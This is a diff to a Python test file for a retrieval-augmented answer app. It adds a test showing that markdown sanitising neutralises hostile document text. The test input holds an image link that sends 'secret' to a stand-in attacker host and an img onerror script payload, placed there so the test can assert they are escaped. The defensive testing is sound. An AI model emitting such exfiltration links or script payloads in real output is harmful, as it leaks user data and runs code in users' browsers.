@@ -32,6 +32,17 @@ def test_render_answer_links_citations_and_flags_unsupported():
     assert plain_text(md) == "Cats sleep sixteen hours [1]. Dogs fly [2]. See [7]."
 
 
+def test_document_text_cannot_fetch_or_format():
+    from ragapp.ui import plain_text, render_answer, safe_markdown
+
+    hostile = '# Title\n![x](http://attacker/?q=secret) see [docs](http://evil) <img src=x onerror=alert(1)>\n====\n---'
+    md = safe_markdown(hostile)
+    assert "![" not in md and "](" not in md and "<img" not in md and "&lt;img" in md
+    assert md.startswith("\\# Title") and "\n\\====\n\\---" in md
+    answer = Answer(text=hostile + " [1]", passages=[P1])
+    assert plain_text(render_answer(answer, "a")) == hostile + " [1]"
+
+
 def test_render_abstention_and_extractive_distinctly():
     from ragapp.ui import plain_text, render_answer
 
@@ -44,7 +55,7 @@ def test_render_abstention_and_extractive_distinctly():
     quoted = Answer(text="“Cats sleep about sixteen hours a day.” [1]", passages=[P1], mode="extractive",
                     citations=[Citation(1, P1, True, 1.0, (0, 36))], reason="3 of 3 answer sentences are not supported")
     md = render_answer(quoted, "y")
-    assert md.startswith("**Quoted from your documents** <small>(3 of 3 answer sentences are not supported)</small>")
+    assert md.startswith("**Quoted from your documents** <small>— 3 of 3 answer sentences are not supported</small>")
     assert plain_text(md) == "“Cats sleep about sixteen hours a day.” [1]"
 
 
